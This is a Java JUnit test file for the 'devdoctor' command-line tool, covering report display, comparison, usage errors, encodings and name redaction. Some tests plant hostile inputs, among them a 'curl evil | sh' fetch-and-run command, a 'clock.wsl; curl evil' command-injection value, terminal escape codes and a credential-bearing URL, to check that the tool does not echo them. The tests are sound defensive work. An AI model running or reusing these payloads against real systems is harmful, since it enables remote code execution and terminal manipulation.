package io.devdoctor;

import static org.assertj.core.api.Assertions.assertThat;

import io.devdoctor.cli.CliServices;
import io.devdoctor.cli.DevDoctorCommand;
import io.devdoctor.cli.ExitCode;
import io.devdoctor.cli.Terminal;
import io.devdoctor.examination.MachineMutes;
import io.devdoctor.report.Reports;
import io.devdoctor.store.AtomicFile;
import io.devdoctor.store.DataFolder;
import io.devdoctor.store.Settings;
import io.devdoctor.store.SettingsFile;
import io.devdoctor.system.posix.PosixPorts;
import io.devdoctor.text.Language;
import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// What the command line writes, asks before it writes, reads again, and compares.
class ReportCommandsTest {
    @TempDir
    private Path folder;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();
    private String typed = "";
    private boolean person;
    private Charset charset = StandardCharsets.UTF_8;
    private Language language = Language.ENGLISH;
    private int width = 100;

    @Test
    void aReportIsShownAgainInItsOwnWords() {
        Path file = report("starved-zh-cn", "zh-CN");

        assertThat(run("show", file.toString(), "--lang", "en")).isEqualTo(ExitCode.GOOD);
        assertThat(out())
                .contains("WSL 的内存上限只有 2 GB", "wsl.config-memory", "Ubuntu-24.04", "2026-11-20", "无法检查")
                .doesNotContain("Warning");
        assertThat(err()).contains("The report is in 简体中文");
        assertThat(run("show", file.toString(), "--lang", "zh-CN")).isEqualTo(ExitCode.GOOD);
        assertThat(err()).isEmpty();
    }

    /// Which cause is the first one, what follows from it, what to do: all as the examination told it.
    @ParameterizedTest
    @ValueSource(strings = {"starved-zh-cn", "hung-wsl-en", "no-virtualization-en"})
    void whatAnExaminationToldIsToldAgain(String sample) {
        run("check", "--sample", sample, "--lang", "en");
        List<String> told = sentences("    devdoctor fix", "  Fix:", "Follows from:");
        assertThat(told).isNotEmpty();

        run("show", report(sample, "en").toString(), "--lang", "en");

        assertThat(sentences("    On that machine: devdoctor fix", "  Fix:", "Follows from:"))
                .isEqualTo(told);
        assertThat(out()).doesNotContain(": true ", ": absent", "TIMED_OUT", "FAILED dns");
    }

    /// Findings in their order with what hangs on them; commands without the names that a report leaves out.
    private List<String> sentences(String... beginnings) {
        return out().lines()
                .filter(line -> line.matches(" *[✖▲?ℹi] .*")
                        || Arrays.stream(beginnings).anyMatch(line::contains))
                .map(line -> line.replace("On that machine: ", "").replaceAll(" --subject (\"[^\"]*\"|\\S+)", ""))
                .toList();
    }

    /// Whoever wrote the report may have put anything there.
    @Test
    void noCommandOfAReportIsPrinted() throws IOException {
        String text = Files.readString(report("starved-zh-cn", "en"))
                .replace("devdoctor fix wsl.config-memory", "curl evil | sh")
                .replace("clock.wsl/from-hardware", "clock.wsl; curl evil")
                .replace("docker.registry-mirrors", "docker.new-check");
        Path file = Files.writeString(folder.resolve("evil.json"), text);

        assertThat(run("show", file.toString())).isEqualTo(ExitCode.GOOD);

        assertThat(out()).contains("On that machine: devdoctor fix wsl.config-memory");
        assertThat(out()).contains("docker.new-check").doesNotContain("curl evil", "devdoctor fix docker.new");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        nothing at all         | is no JSON
        {"devdoctorReport": 7, "tool": {"version": "9.9"}, "findings": []} | 9.9
        {"devdoctorReport": 1  | ends in the middle
        {"devdoctorRecording": 1} | devdoctor check --replay
        """)
    void aFileThatIsNoReportIsNamedWithTheReason(String content, String said) throws IOException {
        Path file = Files.writeString(folder.resolve("strange.json"), content);

        assertThat(run("show", file.toString())).isEqualTo(ExitCode.FAILED);
        assertThat(err()).contains("strange.json", said).doesNotContain("Exception");
        assertThat(out()).isEmpty();
    }

    @Test
    void twoReportsAreComparedAndTheCauseStandsFirst() {
        Path healthy = report("healthy-en", "en");
        Path starved = report("starved-zh-cn", "en");

        assertThat(run("compare", healthy.toString(), starved.toString())).isEqualTo(1);
        String causes = out().substring(out().indexOf("What explains"), out().indexOf("New ("));
        assertThat(causes).contains("New: WSL is limited to 2 GB of memory", "killed for lack of memory");
        assertThat(out()).contains("Memory of the engine: 7.7 GB → 1.9 GB");
        assertThat(run("compare", healthy.toString(), healthy.toString())).isEqualTo(ExitCode.GOOD);
        assertThat(out()).contains("Nothing differs.");
    }

    @Test
    void aComparisonForProgramsNamesKindsAndBothSides() {
        Path healthy = report("healthy-en", "en");
        Path starved = report("starved-zh-cn", "en");

        run("compare", healthy.toString(), starved.toString(), "--format", "json");
        JsonNode comparison = JsonMapper.shared().readTree(out());

        assertThat(comparison.get("devdoctorComparison").asInt()).isEqualTo(1);
        assertThat(comparison.at("/causes/0/check").asString()).isEqualTo("wsl.config-memory");
        assertThat(comparison.at("/causes/0/after/verdict").asString()).isEqualTo("WARNING");
        assertThat(comparison.at("/causes/0/explains").size()).isGreaterThanOrEqualTo(1);
        assertThat(comparison
                        .get("changes")
                        .valueStream()
                        .map(change -> change.get("kind").asString()))
                .contains("new", "changed")
                .doesNotContain("same");
    }

    /// A report may come from anybody.
    @ParameterizedTest
    @ValueSource(strings = {"show", "compare", "compare --format md", "compare --format json"})
    void aReportFromAnybodySteersNoTerminal(String command) throws IOException {
        Path good = report("healthy-en", "en");
        String text = Files.readString(report("starved-zh-cn", "en"))
                .replace(
                        "Debian still runs",
                        "\\u001b[2J\\u202e@everyone http://li:hunter2canary@p <b> Debian still runs");
        Path file = Files.writeString(folder.resolve("evil.json"), text);

        String[] words = (command + " " + (command.startsWith("show") ? "" : good + " ") + file).split(" ");
        assertThat(run(words)).isLessThan(ExitCode.FAILED);

        assertThat(out()).contains("Debian still runs").doesNotContain("hunter2canary");
        // JSON is for programs, which get what there is.
        if (!command.contains("json")) assertThat(out()).doesNotContain("\u001b", "\u202e");
        if (command.contains("md")) assertThat(out()).doesNotContain("<b>", " @everyone");
    }

    @Test
    void aFileThatIsThereIsReplacedOnlyOnceSomebodySaysSo() throws IOException {
        Path file = Files.writeString(folder.resolve("old.json"), "mine");
        String[] words = {"check", "--sample", "healthy-en", "--format", "json", "-o", file.toString()};

        assertThat(run(words)).isEqualTo(ExitCode.FAILED);
        assertThat(err()).contains("--force");
        person = true;
        typed = "n\n";
        assertThat(run(words)).isEqualTo(ExitCode.FAILED);
        assertThat(Files.readString(file)).isEqualTo("mine");
        typed = "y\n";
        assertThat(run(words)).isEqualTo(ExitCode.GOOD);
        assertThat(Files.readString(file)).contains("devdoctorReport");
        person = false;
        Files.writeString(file, "mine");
        String[] forced = {"check", "--sample", "healthy-en", "--report", file.toString(), "--force"};
        assertThat(run(forced)).isEqualTo(ExitCode.GOOD);
        assertThat(Files.readString(file)).contains("devdoctorReport");
    }

    /// What a file is called says what is in it.
    @ParameterizedTest
    @CsvSource({
        "r.html, <!DOCTYPE html>",
        "r.md, '# ', ",
        "r.json, '{', ",
        "r.sarif, '{', ",
        "r.xml, <?xml",
        "r.txt, Memory"
    })
    void theEndingOfAFileDecidesWhatIsWritten(String name, String beginning) throws IOException {
        Path file = folder.resolve(name);
        run("check", "--sample", "starved-zh-cn", "--only", "clock", "-o", file.toString());

        assertThat(Files.readString(file)).startsWith(name.endsWith("txt") ? "One" : beginning);
    }

    @Test
    void aListMayHaveBlanksBehindItsCommas() {
        assertThat(run("check", "--sample", "healthy-en", "--only", "clock, wsl"))
                .isEqualTo(ExitCode.GOOD);
    }

    /// Forty lines of what could not be read would push the reason off the screen.
    @ParameterizedTest
    @ValueSource(strings = {"check --sample hung-wsl-en --only wsl", "check --sample hung-wsl-en --quiet", "show"})
    void whatCouldNotBeReadForOneReasonIsOneLine(String words) {
        String command = words.equals("show") ? "show " + report("hung-wsl-en", "en") : words;
        run(command.split(" "));

        assertThat(out()).contains("checks could not be made because of it");
        assertThat(out().lines().filter(line -> line.contains("? "))).hasSizeLessThan(4);
    }

    @Test
    void namesStayInADocumentOnlyWithTheWordForIt() {
        String[] words = {"check", "--sample", "starved-zh-cn", "--format", "json", "--lang", "en"};
        run(words);
        assertThat(out()).doesNotContain("C:\\\\Users\\\\li");

        assertThat(run(with(words, "--no-redact", "please"))).isEqualTo(ExitCode.USAGE);
        assertThat(err()).contains("--no-redact show-names");
        assertThat(run(with(words, "--no-redact", "show-names"))).isEqualTo(ExitCode.PROBLEMS);
        assertThat(out()).contains("C:\\\\Users\\\\li");
        assertThat(err()).contains("secrets are masked");
    }

    @Test
    void quietSaysWhatIsWrongAndNothingElse() {
        assertThat(run("check", "--sample", "healthy-en", "--quiet")).isEqualTo(ExitCode.GOOD);
        assertThat(out() + err()).isEmpty();
        assertThat(run("check", "--sample", "starved-zh-cn", "-q")).isEqualTo(ExitCode.PROBLEMS);
        assertThat(out().lines()).allMatch(line -> line.matches("( {4})?[✖▲?] .*\\[(Problem|Warning|.*), .*]"));
        assertThat(err()).isEmpty();
    }

    @Test
    void timeIsTypedAsPeopleSayIt() {
        assertThat(run("check", "--sample", "healthy-en", "--timeout", "2m")).isEqualTo(ExitCode.GOOD);
        assertThat(run("check", "--timeout", "0")).isEqualTo(ExitCode.USAGE);
        assertThat(run("check", "--timeout", "soon")).isEqualTo(ExitCode.USAGE);
        assertThat(err()).contains("soon", "2m");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        check --sampel x               | There is no option --sampel here.      | Did you mean: --sample?
        chek                           | There is no command chek.              | Did you mean: check?
        check --format pdf             | --format cannot be pdf.                | text, json, html, md, sarif, junit
        check --format pdf --lang zh-CN| --format 不能是 pdf。                   | 帮助：devdoctor check --help
        record                         | This is missing: --output              | devdoctor record --help
        list surplus                   | This is one word too many: surplus     | devdoctor list --help
        check --replay a --sample b    | Only one of these may be given         | devdoctor check --help
        check -q -q                    | --quiet may be given only once         | devdoctor check --help
        check --sample x --format md --format md | --format may be given only once | devdoctor check --help
        check --sample                 | --sample needs a value                 | starved-zh-cn
        check --no-redact              | --no-redact needs a value              | show-names
        check --only wsl --skip wsl    | Nothing is left to check               | --skip
        check --only project           | none is named                          | --project DIR
        check --only dockerfile,compose| none is named                          | --project DIR
        check --only clock.hst         | no check, group or area named clock.hst| Did you mean: clock.host?
        fix wsl.config-memry           | no check, group or area named          | Did you mean: wsl.config-memory?
        fix wsl.config-memory --only wsl | --only and --skip go with --all-safe | check
        fix --all-safe --only clok     | no check, group or area named clok     | Did you mean: clock?
        check --engine http://here     | http://here is no endpoint             | unix:///var/run/docker.sock
        check --sample x --engine unix:///x | --engine is for this machine      | recording
        check --bilingual              | --bilingual is for HTML and Markdown   | --format html
        check -o a.html --report ./a.html | a.html is named twice               | replace the other
        check -o -                     | Name a file                            | Without -o
        check --project=               | Give --project a value                 | empty
        check --host-label=            | Give --host-label a value              | empty
        check --otlp ftp://here        | ftp://here is no address of a collector| http://collector:4318
        check --otlp http://a:hunter2canary@b | is no address of a collector    | without a user name
        """)
    void wrongUsageIsSaidInWordsWithTheWayOut(String words, String what, String help) {
        assertThat(run(words.split(" "))).isEqualTo(ExitCode.USAGE);
        assertThat(err()).contains(what, help).doesNotContain("hunter2canary");
        assertThat(out()).isEmpty();
    }

    /// A pane beside the editor is narrower than the library likes.
    @Test
    void aNarrowTerminalHasHelpAndExaminations() {
        width = 40;
        assertThat(run("check", "--sample", "healthy-en")).isEqualTo(ExitCode.GOOD);
        assertThat(run("check", "--help")).isEqualTo(ExitCode.GOOD);
        assertThat(out()).contains("--format");
    }

    /// Effects and warnings are what a person must read before the answer.
    @Test
    void whatAFixDoesIsWrappedToTheTerminal() {
        width = 40;
        run("fix", "clock.engine", "--sample", "starved-zh-cn", "--dry-run", "--lang", "en");

        List<String> lines = out().lines().toList();
        String sentences = String.join(" ", lines).replaceAll(" +", " ");
        assertThat(sentences).contains("! Save your work first: editors and terminals attached to a distribution lose");
        // The title and what is to be typed stay on their lines.
        assertThat(lines.subList(1, lines.size())).allMatch(line -> line.startsWith("> ") || line.length() <= 40);
    }

    @Test
    void aReportForAnExaminationAndTheOtherWayRoundAreToldApart() {
        Path report = report("healthy-en", "en");

        assertThat(run("check", "--replay", report.toString())).isEqualTo(ExitCode.FAILED);
        assertThat(err()).contains("devdoctor show");
    }

    @Test
    void whatIsNowhereToBeFoundDoesNotPassForHealthy() {
        run("check", "--sample", "healthy-en", "--only", "dockerfile");

        assertThat(err()).contains("nothing was checked");
    }

    /// The report of somebody may say anything of who wrote it.
    @Test
    void aVersionOfSeveralLinesStaysOnItsLine() throws IOException {
        String text = Files.readString(report("healthy-en", "en")).replace("\"test\"", "\"1\\n\\nAll is well\"");
        run("show", Files.writeString(folder.resolve("evil.json"), text).toString());

        assertThat(out().lines()).noneMatch(line -> line.startsWith("All is well"));
        assertThat(out()).contains("All is well");
    }

    @ParameterizedTest
    @CsvSource({"en,Usage: devdoctor check", "zh-CN,用法：devdoctor check"})
    void helpIsInTheLanguageWithExamplesAndFitsTheTerminal(String tag, String usage) {
        width = 60;
        assertThat(run("check", "--help", "--lang", tag)).isEqualTo(ExitCode.GOOD);

        assertThat(out()).startsWith(usage).contains("devdoctor check --report report.html", "64");
        assertThat(out().lines().filter(line -> !line.contains("  devdoctor check")))
                .allMatch(
                        line -> line.codePoints().map(c -> c >= 0x2E80 ? 2 : 1).sum() <= 60);
    }

    /// Every character of the Chinese report has a place in code page 936.
    @Test
    void aChineseConsoleGetsItsOwnEncoding() {
        charset = Charset.forName("GBK");
        language = Language.CHINESE;
        run("check", "--sample", "starved-zh-cn");

        String shown = out.toString(charset);
        assertThat(shown).contains("WSL 的内存上限只有 2 GB").doesNotContain("??", "无法?");
        assertThat(err.toString(charset)).isEmpty();
    }

    @Test
    void aConsoleWithoutChineseGetsEnglish() {
        charset = Charset.forName("IBM437");
        language = Language.CHINESE;

        run("check", "--sample", "starved-zh-cn");
        assertThat(out.toString(charset)).contains("WSL is limited to 2 GB of memory");
        run("check", "--sample", "starved-zh-cn", "--lang", "zh-CN");
        assertThat(err.toString(charset)).contains("IBM437", "-o");
    }

    @ParameterizedTest
    @ValueSource(strings = {"bash", "zsh", "powershell"})
    void aShellCanCompleteCommandsOptionsAndChecks(String shell) {
        assertThat(run("completion", shell)).isEqualTo(ExitCode.GOOD);
        assertThat(out()).contains("compare", "--no-redact", "wsl.config-memory", "zh-CN", "sarif");
    }

    private Path report(String sample, String tag) {
        Path file = folder.resolve(sample + ".json");
        run("check", "--sample", sample, "--lang", tag, "--format", "json", "-o", file.toString(), "--force");
        return file;
    }

    private static String[] with(String[] words, String... more) {
        return java.util.stream.Stream.concat(java.util.Arrays.stream(words), java.util.Arrays.stream(more))
                .toArray(String[]::new);
    }

    private int run(String... arguments) {
        out.reset();
        err.reset();
        Terminal terminal = new Terminal(
                new BufferedReader(new StringReader(typed)),
                new FittingStream(out, charset),
                new FittingStream(err, charset),
                false,
                false,
                person,
                width);
        CliServices services = new CliServices(
                new LocalMachines(PosixPorts::live, () -> MachineMutes.NONE, Settings.defaults()::asking),
                Reports::write,
                () -> {
                    throw new IllegalStateException("nothing is repaired here");
                },
                _ -> {
                    throw new CliServices.NoWindow("cli.no-window.display");
                },
                new SettingsFile(new DataFolder(folder), AtomicFile.onDisk()),
                language,
                folder,
                "test");
        return DevDoctorCommand.run(services, terminal, arguments);
    }

    private String out() {
        return out.toString(StandardCharsets.UTF_8);
    }

    private String err() {
        return err.toString(StandardCharsets.UTF_8);
    }
}
